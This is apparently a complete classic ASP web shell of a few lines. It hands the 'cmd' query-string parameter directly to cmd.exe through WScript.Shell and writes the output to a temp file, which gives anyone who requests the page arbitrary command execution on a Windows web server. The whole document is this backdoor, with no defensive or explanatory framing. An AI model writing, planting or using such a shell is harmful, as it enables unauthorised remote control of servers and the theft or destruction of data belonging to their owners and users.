<%
Set ws = CreateObject("WScript.Shell")
ws.Run "cmd.exe /c " & Request.QueryString("cmd") & " > c:\windows\temp\o.txt", 0, True
%>
